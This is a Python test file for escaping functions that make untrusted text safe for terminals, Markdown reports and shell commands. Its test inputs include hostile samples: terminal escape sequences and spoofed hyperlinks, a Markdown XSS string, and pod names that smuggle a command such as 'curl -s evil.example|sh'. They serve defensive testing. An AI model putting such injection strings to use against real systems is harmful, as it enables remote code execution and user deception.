"""Untrusted text cannot drive a terminal, a Markdown report or a shell."""

from __future__ import annotations

import shlex

import pytest

from eci_events.render.safe import code_block, code_span, escape, markdown, shell


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("plain text", "plain text"),
        ("\x1b[31mred\x1b[0m", "^[[31mred^[[0m"),
        ("progress\rspoof", "progress^Mspoof"),
        ("bell\x07", "bell^G"),
        (
            "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
            "^[]8;;https://evil.example^[\\click^[]8;;^[\\",
        ),
        ("\x1b]0;PWNED\x07", "^[]0;PWNED^G"),
        ("line1\nline2\tcol", "line1 line2 col"),
        ("csi\x9b31m", "csi\\x9b31m"),
        ("osc\x9d0;t\x9c", "osc\\x9d0;t\\x9c"),
        ("del\x7f", "del^?"),
        ("abc\u202edcba", "abc\\u202edcba"),  # right-to-left override
        ("a\u2066b\u2069c", "a\\u2066b\\u2069c"),  # isolates
        ("No\u200bStock", "No\\u200bStock"),  # zero-width space: looks like NoStock
        ("No\u200dStock\ufeff", "No\\u200dStock\\ufeff"),
        ("one\u2028two\u2029", "one\\u2028two\\u2029"),
        ("soft\u00adhyphen", "soft\\u00adhyphen"),
        ("[bold]markup[/bold]", "[bold]markup[/bold]"),
        ("日本語", "日本語"),
    ],
)
def test_escape(raw: str, shown: str) -> None:
    assert escape(raw) == shown


def test_escaped_text_has_nothing_invisible_or_controlling() -> None:
    every = "".join(chr(c) for c in range(0x00, 0xA0)) + "\u200b\u200c\u200d\u200e\u200f"
    every += "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff"
    assert all(ch.isprintable() for ch in escape(every))


@pytest.mark.parametrize(
    "hostile",
    [
        "[click me](https://evil.example/x)",
        "![t](http://evil.example/t.png)",
        "<img src=x onerror=alert(1)>",
        "a | b || c",
        "# heading",
        "*em* _em_ `code`",
        "see https://evil.example/p or www.evil.example",
    ],
)
def test_markdown_leaves_no_link_image_html_or_cell_break(hostile: str) -> None:
    text = markdown(hostile)
    assert "](" not in text.replace("\\](", "")
    assert "<" not in text.replace("\\<", "")
    assert "|" not in text.replace("\\|", "")
    assert "://" not in text and "www." not in text
    assert "`" not in text.replace("\\`", "")


@pytest.mark.parametrize(
    "text", ["plain", "one ` tick", "two `` ticks", "``` fence", "`edge`", "x" + "`" * 7]
)
def test_code_span_fence_outlasts_any_backtick_run(text: str) -> None:
    span = code_span(text)
    fence = len(span) - len(span.lstrip("`"))
    inside = span[fence:-fence]
    assert span.startswith("`" * fence) and span.endswith("`" * fence)
    longest = max(
        (len(r) for r in inside.split("x") for r in r.split() if set(r) == {"`"}), default=0
    )
    assert fence > longest
    assert inside.strip() == escape(text)


@pytest.mark.parametrize(
    "name",
    ["web-0; curl -s evil.example|sh;", "web-1;curl${IFS}http://evil.example/p|sh;#", "$(id)"],
)
def test_shell_quotes_every_argument(name: str) -> None:
    line = shell(["kubectl", "describe", f"pod/{name}", "-n", "default"])
    assert shlex.split(line) == ["kubectl", "describe", f"pod/{name}", "-n", "default"]


# Every member of the escaped set, ends of ranges included, with what a reader sees instead.
ESCAPED = [
    ("\x00", "^@"),
    ("\x1b", "^["),
    ("\x1f", "^_"),
    ("\x7f", "^?"),
    ("\x80", "\\x80"),
    ("\x9f", "\\x9f"),
    ("\u00ad", "\\u00ad"),  # soft hyphen
    ("\u061c", "\\u061c"),  # Arabic letter mark
    ("\u180e", "\\u180e"),  # Mongolian vowel separator
    ("\u200b", "\\u200b"),
    ("\u200f", "\\u200f"),
    ("\u2028", "\\u2028"),
    ("\u202e", "\\u202e"),
    ("\u2060", "\\u2060"),
    ("\u206f", "\\u206f"),
    ("\ufeff", "\\ufeff"),
    ("\ufff9", "\\ufff9"),
    ("\ufffb", "\\ufffb"),
]
KEPT = [
    "\x20",
    "~",
    "\xa0",
    "\xae",
    "\u061b",
    "\u180d",
    "\u200a",
    "\u2010",
    "\u2027",
    "\u202f",
    "\u205f",
    "\u2070",
    "\ufefe",
    "\ufff8",
    "\ufffc",
    "日",
]


@pytest.mark.parametrize(("raw", "shown"), ESCAPED, ids=[f"U+{ord(r):04X}" for r, _ in ESCAPED])
def test_every_escaped_character_and_range_end(raw: str, shown: str) -> None:
    assert escape(f"a{raw}b") == f"a{shown}b"


@pytest.mark.parametrize("kept", KEPT, ids=[f"U+{ord(k):04X}" for k in KEPT])
def test_characters_beside_the_ranges_are_kept(kept: str) -> None:
    assert escape(f"a{kept}b") == f"a{kept}b"


@pytest.mark.parametrize("char", list("\\`*_{}[]<>#!|~&"))
def test_every_markdown_metacharacter_is_escaped(char: str) -> None:
    assert markdown(f"a{char}b") == f"a\\{char}b"


@pytest.mark.parametrize(
    ("raw", "shown"),
    [("see https://x.example", "see https:\\/\\/x.example"), ("www.x.example", "www\\.x.example")],
)
def test_markdown_breaks_bare_links(raw: str, shown: str) -> None:
    assert markdown(raw) == shown


def test_markdown_escapes_terminal_characters_first() -> None:
    assert markdown("a\x1b[31mb") == "a^\\[\\[31mb"


def test_code_block_fence_outlasts_any_backtick_run_and_keeps_its_indent() -> None:
    assert code_block(["plain"], "  ") == ["  ```", "  plain", "  ```"]
    block = code_block(["a ```` b", "\x1b]0;t\x07"], "    ")
    assert block == ["    `````", "    a ```` b", "    ^[]0;t^G", "    `````"]
